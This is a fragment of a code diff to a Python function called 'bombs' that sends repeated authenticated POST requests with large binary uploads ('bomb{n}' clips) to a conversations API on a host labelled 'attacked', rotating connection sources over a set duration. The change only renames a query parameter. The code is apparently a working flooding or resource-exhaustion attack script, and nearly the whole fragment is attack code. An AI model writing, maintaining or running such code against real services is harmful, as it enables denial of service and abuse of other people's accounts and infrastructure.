@@ -48,7 +48,7 @@ def bombs(to, seconds, slug, token):
     for n in until(float(seconds)):
         line = connect(next(sources), to, 20.0)
         body = hours if n % 2 == 0 else wave
-        head = f"POST /api/v1/conversations/{slug}/clips?name=bomb{n} HTTP/1.1\r\nHost: attacked\r\nAuthorization: Bearer {token}\r\n"
+        head = f"POST /api/v1/conversations/{slug}/clips?title=bomb{n} HTTP/1.1\r\nHost: attacked\r\nAuthorization: Bearer {token}\r\n"
         try:
             line.sendall(f"{head}Content-Type: application/octet-stream\r\nContent-Length: {len(body)}\r\nConnection: close\r\n\r\n".encode() + body)
             status = line.recv(4096)[9:12].decode("latin-1") or "closed"
